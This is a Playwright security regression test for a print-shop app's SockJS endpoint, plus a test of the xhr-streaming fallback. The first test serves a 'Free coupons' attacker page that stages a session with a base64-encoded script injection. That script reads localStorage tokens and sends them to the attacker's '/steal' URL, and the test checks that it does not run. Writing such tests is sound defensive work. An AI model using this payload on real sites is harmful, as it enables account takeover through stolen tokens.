import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { baseUrl } from '../support/helpers.js';
import { ownerWithShop, pdf, signIn } from '../support/shop.js';

/**
 * Issue 15, finding 1: a page on another origin stages a SockJS session whose buffered ERROR frame
 * carries `</script><script>…`, then sends the signed-in owner's browser to that session's htmlfile
 * URL. Had the script run on our origin, it would mark the page and post localStorage (the tokens)
 * back to the attacker's server.
 */
test('an attacker page cannot run script on our origin through a staged SockJS session', async ({ browser, request }) => {
  const { email } = await ownerWithShop(request, 'Injection Target Prints');
  const seen: string[] = [];
  const attacker = http.createServer((req, res) => {
    seen.push(req.url ?? '');
    if (req.url !== '/') return void res.writeHead(204).end();
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(attackPage(baseUrl(), attackerOrigin()));
  });
  attacker.listen(0, '127.0.0.1');
  await once(attacker, 'listening');
  const attackerOrigin = () => `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;

  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await signIn(page, email);
    const secrets = await page.evaluate(() => [localStorage.getItem('token'), localStorage.getItem('refreshToken')]);
    expect(secrets[0], 'the owner holds an access token').toBeTruthy();

    await page.goto(attackerOrigin());
    await page.waitForURL(/\/ws-endpoint\/000\/[^/]+\/htmlfile/, { waitUntil: 'commit' });
    expect(seen, 'the attacker page staged its session before navigating').toContain('/staged');
    // Give an injected script every chance to run and call home.
    await page.waitForTimeout(2000);

    // Soft, so a failure shows everything the attacker got.
    const ran = await page.evaluate(() => (window as unknown as { attackerRan?: boolean }).attackerRan ?? false);
    expect.soft(ran, 'the attacker script ran on our origin').toBe(false);
    expect
      .soft(
        seen.filter((url) => url.startsWith('/steal')),
        'calls home from our origin',
      )
      .toEqual([]);
    secrets.forEach((secret, i) => {
      if (secret)
        expect
          .soft(
            seen.some((url) => decodeURIComponent(url).includes(secret)),
            `secret ${i} reached the attacker`,
          )
          .toBe(false);
    });
  } finally {
    await context.close();
    attacker.closeAllConnections();
    await new Promise((r) => attacker.close(r));
  }
});

/** With htmlfile and jsonp gone, a browser without WebSocket must still get the live queue, over xhr. */
test('the live queue still works over SockJS xhr-streaming when the browser has no WebSocket', async ({ browser, request }) => {
  const { email, shop } = await ownerWithShop(request, 'Fallback Prints');
  const staff = await browser.newContext();
  const customer = await browser.newContext();
  try {
    await staff.addInitScript(() => {
      Reflect.deleteProperty(window, 'WebSocket');
    });
    const transports: string[] = [];
    const page = await staff.newPage();
    page.on('request', (req) => {
      const m = /\/ws-endpoint\/[^/]+\/[^/]+\/([a-z_]+)/.exec(req.url());
      if (m?.[1]) transports.push(m[1]);
    });
    await signIn(page, email);
    await page.goto('/printJob');
    await expect(page.getByRole('status', { name: 'Live updates: Connected' })).toBeVisible();
    expect(transports).toContain('xhr_streaming');
    expect(transports.filter((t) => /htmlfile|jsonp|websocket/.test(t))).toEqual([]);

    const phone = await customer.newPage();
    await phone.goto(`/public/${shop.slug}`);
    await phone.locator('input[type="file"]').setInputFiles([{ name: 'form.pdf', mimeType: 'application/pdf', buffer: pdf('Form') }]);
    await phone.getByRole('button', { name: 'Upload 1 file' }).click();
    await expect(phone.getByRole('heading', { name: 'Job #1' })).toBeVisible();
    await expect(page.getByRole('button', { name: /^#1 / })).toBeVisible({ timeout: 5000 });
  } finally {
    await staff.close();
    await customer.close();
  }
});

/** The attacker's page: stages a session through xhr/xhr_send (no CORS needed), then navigates to its htmlfile stream. */
function attackPage(target: string, home: string): string {
  const steal = `window.attackerRan = true; new Image().src = '${home}/steal?d=' + encodeURIComponent(JSON.stringify(Object.assign({}, localStorage)));`;
  // A STOMP receipt header cannot hold ':' (it is escaped to \c), so the script travels base64-encoded.
  const receipt = `</script><script>eval(atob('${Buffer.from(steal).toString('base64')}'))</script>`;
  const frame = `SEND\nreceipt:${receipt}\n\n\0`;
  return `<!doctype html><title>Free coupons</title><script>
(async () => {
  const session = ${jsString(`${target}/ws-endpoint/000/`)} + 'evil' + Date.now();
  // The requests do their work on the server even when the browser withholds the answers (CORP).
  const send = (url, body) => fetch(url, { method: 'POST', mode: 'no-cors', body }).catch(() => {});
  await send(session + '/xhr');
  await send(session + '/xhr_send', ${jsString(JSON.stringify([frame]))});
  await fetch('/staged');
  location.href = session + '/htmlfile?c=p';
})();
</script>`;
}

/** A JS string literal that is safe inside the attacker page's own <script>. */
const jsString = (text: string) => JSON.stringify(text).replace(/</g, '\\u003c');
